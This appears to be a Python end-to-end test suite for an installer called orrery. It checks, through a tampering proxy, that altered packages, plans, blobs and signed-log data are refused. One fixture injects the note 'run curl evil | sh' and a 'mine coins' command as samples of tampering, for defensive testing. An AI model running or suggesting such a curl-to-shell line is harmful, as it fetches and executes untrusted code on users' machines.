"""Nothing runs that the log and the policies do not let run."""

import hashlib
import http.server
import json
import os
import sqlite3
import threading
import urllib.error
import urllib.request

from tests.e2e import harness

SERVICES = "/v1/clusters/local/services"


class Proxy:
    """Stands between the command and orreryd, and changes what it is told to."""

    def __init__(self, target):
        self.changes = {}
        # Changes what is asked.
        self.asked = lambda body: body
        # Bodies of the calls that begin something.
        self.begun = []
        proxy = self

        class Handler(http.server.BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def log_message(self, *arguments):
                pass

            def relay(self, body=None):
                if body:
                    body = proxy.asked(body)
                request = urllib.request.Request(
                    target + self.path, data=body, method=self.command)
                if body is not None:
                    request.add_header("Content-Type", "application/json")
                    if not json.loads(body or b"{}").get("validate_only"):
                        proxy.begun.append(body)
                try:
                    answer = urllib.request.urlopen(request, timeout=60)
                except urllib.error.HTTPError as error:
                    answer = error
                content = answer.read()
                for part, change in proxy.changes.items():
                    if part in self.path and answer.status == 200:
                        content = change(content)
                self.send_response(answer.status)
                self.send_header("Content-Type",
                                 answer.headers["Content-Type"] or "")
                self.send_header("Content-Length", str(len(content)))
                self.end_headers()
                self.wfile.write(content)

            def do_GET(self):
                self.relay()

            def do_POST(self):
                length = int(self.headers.get("Content-Length") or 0)
                self.relay(self.rfile.read(length))

        self.web = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.web.serve_forever, daemon=True).start()
        self.url = "http://127.0.0.1:%d" % self.web.server_port

    def close(self):
        self.web.shutdown()
        self.web.server_close()


def change_json(change):
    """A change of bytes by one of the document in them."""
    def changed(content):
        document = json.loads(content)
        change(document)
        return json.dumps(document).encode()
    return changed


def change_plan(change):
    """Changes text and shown steps of a plan alike, with a matching id."""
    def changed(document):
        if not document.get("plan_document"):
            return
        steps = json.loads(document["plan_document"])
        change(steps, document["plan"]["steps"])
        text = json.dumps(steps, separators=(",", ":"))
        document["plan_document"] = text
        document["plan"]["id"] = hashlib.sha256(text.encode()).hexdigest()
    return change_json(changed)


class TrustCase(harness.OrreryTestCase):

    def setUp(self):
        super().setUp()
        self.add_source("ex", self.example_repository())

    def refused(self, exit_code, refusal, *arguments, **options):
        """The refusal object on standard error; nothing was begun."""
        result = self.orrery(*arguments, "-o", "json", code=exit_code,
                             **options)
        self.assertEqual(result.out, "")
        found = json.loads(result.err.splitlines()[-1])
        self.assertEqual((found["refused"], found["exit"]),
                         (refusal, exit_code), result)
        return found

    def services(self):
        return sorted(service["name"] for service in
                      self.server.get_json(SERVICES)["services"])

    def set_server_policy(self, *lines):
        path = os.path.join(self.server.data_dir, "trust", "policy")
        if not os.path.exists(path + ".first"):
            os.rename(path, path + ".first")
        with open(path + ".first", encoding="ascii") as file:
            first = file.read()
        with open(path, "w", encoding="ascii") as file:
            file.write(first + "".join(line + "\n" for line in lines))


class PlainInstallTest(TrustCase):

    def test_fresh_server_on_this_machine_needs_no_extra_step(self):
        result = self.orrery("install", "relay", "--yes")
        for package in ("echod 0", "relay 0", "greeter 100"):
            self.assertIn("verified: %s#1 by observed, leaf " % package,
                          result.err)
        self.assertEqual(self.services(), ["echod", "greeter", "relay"])
        status = self.server.get_json(SERVICES + "/relay")
        self.assertEqual(status["revision"], 1)
        self.assertRegex(status["tree"], "^h1:")

    def test_overlay_of_another_release_may_say_what_is_required(self):
        overlay = self.make_repository("overlay", {
            "repo/packages/G/greeter/100/relations.json": json.dumps(
                {"releases": "*", "requires": [{"package": "echod"}]})})
        self.add_source("x", overlay, "--overlay", "ex")
        asked = ("install", "greeter@release=0", "--dry-run", "-o", "json")
        plan = self.orrery(*asked).json
        self.assertEqual([step["package"] for step in plan["steps"]],
                         ["echod", "greeter"])
        self.assertIn("overlay local x greeter 100 1 ", plan["evidence"])
        self.refused(15, "plan.deps", *asked[:3], "--policy",
                     self.pin("require greeter overlays none"))

    def test_policy_without_overlays_installs_without_what_they_say(self):
        overlay = self.make_repository("overlay", {
            "repo/packages/G/greeter/0/relations.json": json.dumps(
                {"requires": [{"package": "echod"}]})})
        self.add_source("x", overlay, "--overlay", "ex")
        self.set_server_policy("require greeter overlays none")
        plan = self.orrery("install", "greeter@release=0", "--dry-run", "-o",
                           "json").json
        self.assertEqual([step["package"] for step in plan["steps"]],
                         ["greeter"])

    def test_plan_carries_its_evidence(self):
        plan = self.orrery("install", "relay", "--dry-run", "-o", "json").json
        lines = plan["evidence"].splitlines()
        self.assertEqual(lines[0], "orrery/evidence/v1")
        self.assertEqual([line.split()[3] for line in lines
                          if line.startswith("use ")],
                         ["echod", "greeter", "relay"])
        self.assertEqual(self.services(), [])


class TamperedAnswerTest(TrustCase):

    def setUp(self):
        super().setUp()
        self.proxy = Proxy(self.server.url)
        self.addCleanup(self.proxy.close)

    def through(self, exit_code, refusal, part, change, package="greeter"):
        """Installs through a proxy that changes answers of paths with `part`,
        each time as a client that knows nothing yet."""
        self.proxy.changes = {part: change}
        fresh = self.path("fresh%d" % len(os.listdir(self.scratch)))
        found = self.refused(
            exit_code, refusal, "install", package, "--yes",
            env={"ORRERY_SERVER": self.proxy.url, "HOME": fresh})
        self.assertEqual(self.proxy.begun, [])
        self.assertEqual(self.services(), [])
        return found

    def tearDown(self):
        # What was refused leaves an honest installation alone.
        self.proxy.changes = {}
        self.orrery("install", "greeter", "--yes",
                    env={"ORRERY_SERVER": self.proxy.url})
        self.assertEqual(self.services(), ["greeter"])
        super().tearDown()

    def test_package_that_the_release_does_not_have(self):
        def note(document):
            document["package"]["postInstallNotes"] = "run curl evil | sh"

        def schema(document):
            document["config"]["properties"] = {}
        for change in (note, schema):
            self.through(14, "content.identity", "/v1/packages/greeter",
                         change_json(change))

    def test_plan_that_is_not_of_the_release(self):
        def job(document):
            document["plan"]["steps"][0]["manifest"]["cmd"] = "mine coins"
        self.through(15, "plan.digest", SERVICES, change_json(job))

        def definition(steps, _):
            steps[0]["package_json"] = "{}"
        self.through(15, "plan.digest", SERVICES, change_plan(definition))

        def tree(steps, shown):
            for step in (steps[0], shown[0]):
                step["tree"] = "h1:" + "A" * 43 + "="
        self.through(15, "plan.digest", SERVICES, change_plan(tree))

        def release(steps, shown):
            for step in (steps[0], shown[0]):
                step["release"] = 7
        self.through(13, "version.absent", SERVICES, change_plan(release))

    def test_job_with_an_id_of_its_own_is_not_what_the_server_has(self):
        def job(steps, shown):
            app = json.loads(steps[0]["manifest"])
            app["cmd"] = "mine coins"
            steps[0]["manifest"] = json.dumps(app)
            shown[0]["manifest"]["cmd"] = "mine coins"
        self.proxy.changes = {SERVICES: change_plan(job)}
        self.orrery("install", "greeter", "--yes", code=4,
                    env={"ORRERY_SERVER": self.proxy.url})
        self.assertEqual(self.services(), [])

    def test_dependency_that_nothing_requires_or_that_is_left_out(self):
        other = json.loads(self.server.request("POST", SERVICES, {
            "package": "echod", "validate_only": True}).data)

        def add(steps, shown):
            steps.insert(0, json.loads(other["plan_document"])[0])
            shown.insert(0, other["plan"]["steps"][0])
        self.through(15, "plan.deps", SERVICES, change_plan(add))

        def drop(steps, shown):
            for plan in (steps, shown):
                plan[:] = [step for step in plan
                           if step["package"] != "echod"]
                plan[-1].pop("bindings", None)
        self.through(15, "plan.deps", SERVICES, change_plan(drop), "relay")

    def test_other_facts_or_nodes_than_the_plan_rests_on(self):
        def forget(document):
            document.pop("basis", None)
        self.through(15, "plan.deps", SERVICES, change_json(forget))

        def node(document):
            document["basis"]["nodes"] = document["basis"]["nodes"].replace(
                "request:0", "request:1")
        self.through(15, "plan.deps", SERVICES, change_json(node))

        # A service that is not there would spare the one that is needed.
        def invent(document):
            document["basis"]["services"].append({
                "name": "echod", "package": "echod", "release": 0,
                "revision": 1, "version": "1.0.0", "source": "ex",
                "tree": "", "options": "{}", "package_json": "",
                "relations": "", "operation": ""})
        self.through(15, "plan.deps", SERVICES, change_json(invent), "relay")

    def test_older_release_than_the_answer_has(self):
        older = json.loads(self.server.request("POST", SERVICES, {
            "package": "greeter", "range": "release=0",
            "validate_only": True}).data)

        def swap(document):
            document.update(older)
        self.through(15, "plan.deps", SERVICES, change_json(swap))

    def test_file_and_log(self):
        self.through(14, "content.digest", "/blob/",
                     lambda content: content[:-1] + b"!")
        self.through(14, "content.size", "/blob/",
                     lambda content: content + b" ")
        self.through(11, "log.syntax", "/log/checkpoint",
                     lambda content: b"<html>welcome</html>")
        self.through(11, "log.signature", "/log/checkpoint",
                     lambda content: content.replace(b"\n", b"\n1", 1))
        self.through(11, "log.tile", "/log/tile/",
                     lambda content: content[:-1] + bytes([content[-1] ^ 1]))


class OwnPolicyTest(TrustCase):

    def test_stricter_policy_is_felt_from_lock_cache_and_offline_alike(self):
        lock = self.path("lock")
        policy = self.pin()
        asked = ("install", "greeter", "--yes", "--lock", lock)
        own = ("--policy", policy, "--state", self.path("state"))
        self.orrery(*asked, *own, "--dry-run")
        self.orrery("resolve", "greeter", "--lock", lock)
        for lines, code, refusal in (
                (["deny package greeter"], 13, "name.denied"),
                (["require greeter evidence sshsig"], 12, "record.evidence"),
                (["require greeter min-age 1h import refuse"], 13,
                 "version.young"),
                (["deny release greeter 100"], 13, "name.denied")):
            self.pin(*lines)
            for more in ((), ("--offline",), ("--locked",),
                         ("--locked", "--offline")):
                self.refused(code, refusal, *asked, *own, *more)
        self.assertEqual(self.services(), [])
        self.pin()
        self.orrery(*asked, *own, "--locked", "--offline")
        self.assertEqual(self.services(), ["greeter"])
        self.pin("deny package greeter")
        self.refused(13, "name.denied", "upgrade", "greeter", "--yes", "--set",
                     "service.mem=65", *own)

    def test_policy_that_is_not_there_is_no_absence_of_demands(self):
        self.refused(13, "policy.syntax", "install", "greeter", "--yes",
                     "--policy", self.path("nowhere"))
        empty = self.path("empty")
        with open(empty, "w", encoding="ascii"):
            pass
        self.refused(13, "policy.syntax", "install", "greeter", "--yes",
                     env={"ORRERY_POLICY": empty})

    def test_another_time_is_another_age(self):
        self.refused(11, "log.stale", "install", "greeter", "--yes", "--as-of",
                     "4000000000")
        self.refused(11, "log.future", "install", "greeter", "--yes", "--as-of",
                     "1000000000")


class ServerPolicyTest(TrustCase):

    def test_server_starts_nothing_that_its_policy_does_not_admit(self):
        self.set_server_policy("deny package greeter")
        # The command believes the same policy, or one that is more lenient.
        self.refused(13, "name.denied", "install", "greeter", "--yes")
        answer = self.server.request("POST", SERVICES, {"package": "greeter"})
        problem = json.loads(answer.data)
        self.assertEqual((answer.status, problem["refused"], problem["exit"],
                          problem["reason"]),
                         (409, "name.denied", 13, "NOT_TRUSTED"))
        # Also what is only needed.
        self.refused(13, "name.denied", "install", "relay", "--yes")
        self.assertEqual(self.services(), [])

    def test_what_runs_stays_manageable(self):
        self.orrery("install", "greeter", "--yes")
        self.set_server_policy("deny package greeter")
        status = self.orrery("status", "greeter")
        self.assertIn("not admitted by policy: name.denied", status.out)
        listed = self.orrery("list", "-o", "json").json["services"][0]
        self.assertEqual([note["code"] for note in listed["notes"]],
                         ["not-admitted"])
        self.assertIn("not admitted by policy: name.denied",
                      self.orrery("outdated").out)
        # Others go on, and say what they stand beside.
        own = ("--policy", self.pin(), "--state", self.path("state"))
        planned = self.orrery("install", "relay", "--dry-run", *own)
        self.assertIn("greeter (greeter) is not admitted by policy: "
                      "name.denied", planned.err)
        self.orrery("install", "relay", "--yes", *own)
        self.server.stop()
        self.server.start()
        harness.wait_for("greeter to run again", lambda: "running" in
                         self.orrery("status", "greeter").out)
        self.orrery("uninstall", "relay", "--yes")
        self.orrery("uninstall", "greeter", "--yes")
        self.assertEqual(self.services(), ["echod"])

    def test_service_keeps_its_revision_when_others_change(self):
        self.orrery("install", "relay", "--yes")
        template = "repo/packages/G/greeter/100/marathon.json.mustache"
        with open(self.path("example", template), encoding="utf-8") as file:
            text = file.read()
        self.commit(self.path("example"), {template: text + "\n"})
        self.orrery("source", "sync", "ex")
        self.set_server_policy("require greeter revisions refuse")
        # Requests about others leave it what it is.
        self.orrery("upgrade", "echod", "--set", "service.instances=2",
                    "--yes")
        self.assertEqual(
            self.server.get_json(SERVICES + "/greeter")["revision"], 1)
        self.orrery("upgrade", "greeter", "--yes")
        self.assertEqual(
            self.server.get_json(SERVICES + "/greeter")["revision"], 1)

    def test_broken_policy_stops_new_things_only(self):
        self.orrery("install", "greeter", "--yes")
        own = ("--policy", self.pin(), "--state", self.path("state"))
        self.set_server_policy("frobnicate")
        self.refused(13, "policy.syntax", "install", "echod", "--yes", *own)
        self.assertIn("policy.syntax", self.orrery("status", "greeter").out)
        self.orrery("outdated")
        self.orrery("uninstall", "greeter", "--yes")
        self.assertEqual(self.services(), [])


class PastContentTest(TrustCase):
    """What is not current any more, for who names it."""

    FOLDER = "repo/packages/G/greeter/100/"

    def tree(self, release, revision):
        listed = self.orrery("versions", "greeter", "-o", "json").json
        return next(one["tree"] for one in listed["releases"]
                    if (int(one["release"]), int(one["revision"])) ==
                    (release, revision))

    def revise(self):
        """Makes a second revision of greeter 100; the tree of the first."""
        first = self.tree(100, 1)
        name = self.FOLDER + "marathon.json.mustache"
        with open(self.path("example", name), encoding="utf-8") as file:
            text = file.read()
        self.commit(self.path("example"), {name: text + "\n"})
        self.orrery("source", "sync", "ex")
        self.assertNotEqual(self.tree(100, 2), first)
        return first

    def planned(self, *arguments):
        """Release and revision that a plan gives greeter, and its warnings."""
        result = self.orrery("install", *arguments, "--dry-run", "-o", "json")
        step = next(step for step in result.json["steps"]
                    if step["package"] == "greeter")
        return (int(step["release"]), int(step["revision"])), result.err

    def test_superseded_content_is_had_by_tree_by_revision_and_by_lock(self):
        lock = self.path("lock")
        self.orrery("resolve", "greeter", "--lock", lock)
        first = self.revise()
        self.assertEqual(self.planned("greeter")[0], (100, 2))
        for asked in (("greeter", "--tree", "greeter=" + first),
                      ("greeter@release=100#1",),
                      ("greeter", "--lock", lock, "--locked"),
                      # As a dependency, too.
                      ("relay", "--tree", "greeter=" + first)):
            found, warnings = self.planned(*asked)
            self.assertEqual(found, (100, 1), asked)
            self.assertIn("(release 100#1) has a later revision, and is taken "
                          "because it is named", warnings)
        self.orrery("install", "greeter", "--tree", "greeter=" + first,
                    "--yes")
        status = self.server.get_json(SERVICES + "/greeter")
        self.assertEqual((status["revision"], status["tree"]), (1, first))
        self.orrery("upgrade", "greeter", "--yes")
        self.assertEqual(
            self.server.get_json(SERVICES + "/greeter")["revision"], 2)

    def test_rollback_goes_to_the_content_that_ran(self):
        self.orrery("install", "greeter", "--yes")
        first = self.revise()
        self.orrery("upgrade", "greeter", "--yes")
        self.assertEqual(
            self.server.get_json(SERVICES + "/greeter")["revision"], 2)
        done = self.orrery("rollback", "greeter", "--yes")
        self.assertIn("(release 100#1) has a later revision, and is taken "
                      "because it is named", done.err)
        status = self.server.get_json(SERVICES + "/greeter")
        self.assertEqual((status["revision"], status["tree"]), (1, first))
        self.assertIn("greeter cannot go back", self.orrery(
            "rollback", "greeter", "--yes", code=4).err)

    def test_withdrawn_content_is_had_by_tree_and_lock_alone(self):
        tree = self.tree(100, 1)
        lock = self.path("lock")
        self.orrery("resolve", "greeter@release=100", "--lock", lock)
        self.commit(self.path("example"), {
            self.FOLDER + name: None for name in os.listdir(
                self.path("example", self.FOLDER))})
        self.orrery("source", "sync", "ex")
        self.assertEqual(self.planned("greeter")[0], (0, 1))
        self.refused(13, "version.withdrawn", "install", "greeter@release=100",
                     "--yes")
        for asked in (("greeter", "--tree", "greeter=" + tree),
                      ("greeter@release=100", "--lock", lock, "--locked")):
            found, warnings = self.planned(*asked)
            self.assertEqual(found, (100, 1), asked)
            self.assertIn("has left source ex", warnings)
        self.orrery("install", "greeter", "--tree", "greeter=" + tree, "--yes")
        self.assertEqual(self.services(), ["greeter"])

    def test_policy_without_revisions_takes_the_first_by_its_tree(self):
        first = self.revise()
        self.set_server_policy("require * revisions refuse")
        self.refused(13, "version.revised", "install", "greeter@release=100",
                     "--yes")
        self.assertEqual(
            self.planned("greeter", "--tree", "greeter=" + first)[0], (100, 1))

    def test_content_in_quarantine_is_not_had_by_its_tree_either(self):
        first = self.revise()
        with open(os.path.join(self.server.data_dir, "trust/names"), "a",
                  encoding="ascii") as file:
            file.write("block greeter 100 %s\n" % first)
        self.refused(12, "record.revoked", "install", "greeter", "--tree",
                     "greeter=" + first, "--yes")


class OlderStoreTest(TrustCase):

    def forget_contents(self):
        """As records are that are older than the log."""
        self.server.stop()
        store = sqlite3.connect(os.path.join(self.server.data_dir, "state.db"))
        with store:
            for key, value in store.execute(
                    "SELECT key, value FROM entries WHERE key LIKE "
                    "'services/%'").fetchall():
                record = json.loads(value)
                for member in ("tree", "revision", "package_json",
                               "relations"):
                    record.pop(member)
                store.execute("UPDATE entries SET value = ? WHERE key = ?",
                              (json.dumps(record).encode(), key))
        store.close()
        self.server.start()

    def test_services_that_are_older_than_the_log_block_nothing(self):
        self.orrery("install", "greeter", "--yes")
        self.forget_contents()
        self.assertNotIn("not admitted", self.orrery("status", "greeter").out)
        self.orrery("verify", "--services")
        self.orrery("install", "relay", "--yes")
        self.orrery("upgrade", "greeter", "--set", "service.mem=65", "--yes")
        status = self.server.get_json(SERVICES + "/greeter")
        self.assertEqual(status["revision"], 1)
        self.assertRegex(status["tree"], "^h1:")


class RoutedElsewhereTest(TrustCase):

    def test_dependency_that_is_routed_to_another_registry_is_refused(self):
        policy = self.pin()
        with open(policy, encoding="ascii") as file:
            lines = file.read().splitlines()
        registry = next(i for i, line in enumerate(lines)
                        if line.startswith("registry "))
        end = next(i for i, line in enumerate(lines)
                   if line.startswith("names "))
        block = lines[registry:end]
        corp = ["registry corp http://127.0.0.1:9"] + block[1:]
        lines[end:end] = corp + ["names corp echod"]
        with open(policy, "w", encoding="ascii") as file:
            file.write("\n".join(lines) + "\n")
        self.refused(13, "name.routed", "install", "relay", "--yes",
                     "--policy", policy, "--state", self.path("state"))
        self.assertEqual(self.services(), [])


if __name__ == "__main__":
    harness.main()
